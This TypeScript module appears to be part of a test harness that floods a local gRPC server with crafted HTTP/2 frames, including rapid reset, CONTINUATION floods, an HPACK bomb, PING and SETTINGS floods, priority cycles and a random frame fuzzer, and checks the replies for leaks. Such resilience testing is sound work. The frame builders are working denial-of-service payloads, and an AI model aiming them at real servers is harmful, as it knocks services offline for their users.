import { setTimeout as delay } from "node:timers/promises";
import { drawBelow, randomStream } from "../../src/simulation/random-stream.ts";
import {
  ack,
  endHeaders,
  endStream,
  frameHead,
  frameTypes,
  requestHeaders,
  settingIds,
  settingsFrame,
  windowUpdateFrame,
} from "../http2-frames.ts";
import { type Attack, atATime, leaksIn } from "./attack.ts";
import { openRaw } from "./raw-connection.ts";

const rankPath = "/setlist.v1.RankingService/Rank";
const preface = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settingsFrame([])]);
const [priorityType, continuationType] = [2, 9];
const cancel = u32(8);
const headerBlock = requestHeaders("x", rankPath);

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  return Buffer.concat([frameHead(payload.length, type, flags, streamId), payload]);
}

function repeated(count: number, of: (place: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, place) => of(place)));
}

const streamId = (place: number): number => 1 + 2 * place;
const opening = (place: number, path = rankPath): Buffer =>
  frame(frameTypes.headers, endHeaders, streamId(place), requestHeaders("x", path));

/** Frames after the preface, again and again on a few connections. */
interface Flood {
  readonly name: string;
  readonly frames: number;
  /** Not more than fits into one write; sent `rounds` times. */
  readonly bytes: (round: number) => Buffer;
  readonly rounds: number;
  /** Whether what comes is not read. */
  readonly unread?: boolean;
}

const floods: readonly Flood[] = [
  {
    name: "rapid reset",
    frames: 2_000,
    rounds: 20,
    bytes: (round) =>
      repeated(2_000, (i) =>
        Buffer.concat([
          opening(2_000 * round + i),
          frame(frameTypes.reset, 0, streamId(2_000 * round + i), cancel),
        ]),
      ),
  },
  {
    name: "rapid reset of what is not offered",
    frames: 500,
    rounds: 1,
    bytes: () =>
      repeated(500, (i) =>
        Buffer.concat([opening(i, "/no.Such/Method"), frame(frameTypes.reset, 0, streamId(i), cancel)]),
      ),
  },
  {
    name: "calls over the limit",
    frames: 5_000,
    rounds: 1,
    bytes: () => repeated(5_000, (i) => opening(i)),
  },
  {
    name: "CONTINUATION without end",
    frames: 20_000,
    rounds: 1,
    bytes: () =>
      Buffer.concat([
        frame(frameTypes.headers, 0, 1, headerBlock),
        repeated(20_000, () => frame(continuationType, 0, 1, Buffer.from("\x00\x01a\x01b"))),
      ]),
  },
  {
    name: "empty CONTINUATION without end",
    frames: 20_000,
    rounds: 1,
    bytes: () =>
      Buffer.concat([
        frame(frameTypes.headers, 0, 1, headerBlock),
        repeated(20_000, () => frame(continuationType, 0, 1)),
      ]),
  },
  {
    name: "SETTINGS, acknowledgements not read",
    frames: 20_000,
    rounds: 5,
    unread: true,
    bytes: () => repeated(20_000, () => settingsFrame([[settingIds.initialWindowSize, 100]])),
  },
  {
    name: "PING, answers not read",
    frames: 20_000,
    rounds: 5,
    unread: true,
    bytes: () => repeated(20_000, () => frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
  },
  {
    name: "PING answers to no question",
    frames: 20_000,
    rounds: 1,
    bytes: () => repeated(20_000, () => frame(frameTypes.ping, ack, 0, Buffer.alloc(8))),
  },
  { name: "window of nothing", frames: 1, rounds: 1, bytes: () => windowUpdateFrame(0) },
  {
    name: "window past its end",
    frames: 3,
    rounds: 1,
    bytes: () => repeated(3, () => windowUpdateFrame(0x7f_ff_ff_ff)),
  },
  {
    name: "priorities in a circle",
    frames: 20_000,
    rounds: 1,
    bytes: () =>
      repeated(20_000, (i) =>
        frame(
          priorityType,
          0,
          streamId(i % 500),
          Buffer.concat([u32(streamId((i + 1) % 500)), Buffer.of(1)]),
        ),
      ),
  },
  {
    name: "a stream that depends on itself",
    frames: 1,
    rounds: 1,
    bytes: () => frame(priorityType, 0, 1, Buffer.of(0, 0, 0, 1, 1)),
  },
  {
    name: "HPACK bomb",
    frames: 1,
    rounds: 1,
    bytes: () => {
      // One entry of 4,000 bytes in the table (RFC 7541, 6.2.1), and an index of one byte that repeats it.
      const value = Buffer.alloc(4_000, "a");
      const entry = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), value]);
      const block = Buffer.concat([headerBlock, entry, Buffer.alloc(12_000, 0xbe)]);
      return frame(frameTypes.headers, endHeaders | endStream, 1, block);
    },
  },
  {
    name: "headers without end",
    frames: 100,
    rounds: 1,
    bytes: () =>
      repeated(100, (i) =>
        frame(
          frameTypes.headers,
          endHeaders,
          streamId(i),
          Buffer.concat([
            headerBlock,
            repeated(60, () =>
              Buffer.concat([Buffer.from([0, 1, 0x78, 0x7f, 0x81, 1]), Buffer.alloc(256, "y")]),
            ),
          ]),
        ),
      ),
  },
  {
    name: "a frame of 16 MB",
    frames: 1,
    rounds: 1,
    bytes: () => frameHead(0xff_ff_ff, frameTypes.data, 0, 1),
  },
  {
    name: "GOAWAY in mid-call",
    frames: 101,
    rounds: 1,
    bytes: () =>
      Buffer.concat([repeated(100, (i) => opening(i)), frame(frameTypes.goAway, 0, 0, Buffer.alloc(8))]),
  },
  {
    name: "DATA for no stream",
    frames: 1_000,
    rounds: 1,
    bytes: () => repeated(1_000, () => frame(frameTypes.data, 0, 9, Buffer.alloc(100))),
  },
  {
    name: "empty DATA",
    frames: 20_000,
    rounds: 1,
    bytes: () => Buffer.concat([opening(0), repeated(20_000, () => frame(frameTypes.data, 0, 1))]),
  },
];

const connectionsEach = 5;

function flooding({ name, frames, rounds, bytes, unread = false }: Flood): Attack {
  return {
    name: `HTTP/2: ${name}`,
    async run({ grpcPort }) {
      const findings: string[] = [];
      const all = [];
      for (let i = 0; i < connectionsEach; i++) {
        const connection = await openRaw(grpcPort);
        if (unread) connection.pause();
        connection.write(preface);
        all.push(connection);
      }
      for (let round = 0; round < rounds; round++) {
        const part = bytes(round);
        for (const one of all) if (one.isOpen()) one.write(part);
        await delay(50);
      }
      await delay(1_000);
      for (const one of all) {
        findings.push(...leaksIn(one.received()));
        one.destroy();
      }
      return { sent: `${connectionsEach} x ${frames * rounds} frames`, findings };
    },
  };
}

/** A valid call, some of its bytes changed. */
const malformed: Attack = {
  name: "HTTP/2: malformed frames",
  async run({ grpcPort }, { seed }) {
    const random = randomStream(seed, "frames");
    const findings: string[] = [];
    const good = Buffer.concat([
      preface,
      opening(0),
      frame(frameTypes.data, endStream, 1, Buffer.alloc(40)),
      windowUpdateFrame(1_000),
      frame(frameTypes.ping, 0, 0, Buffer.alloc(8)),
    ]);
    const count = 3_000;
    await atATime(count, 8, async () => {
      const bytes = Buffer.from(good);
      for (let changes = 1 + drawBelow(random, 4); changes > 0; changes--) {
        bytes[24 + drawBelow(random, bytes.length - 24)] = drawBelow(random, 256);
      }
      const connection = await openRaw(grpcPort);
      connection.write(bytes);
      await connection.endsWithin(5);
      findings.push(...leaksIn(connection.received()));
      connection.destroy();
    });
    return { sent: `${count} connections`, findings };
  },
};

export const http2Floods: readonly Attack[] = [...floods.map(flooding), malformed];
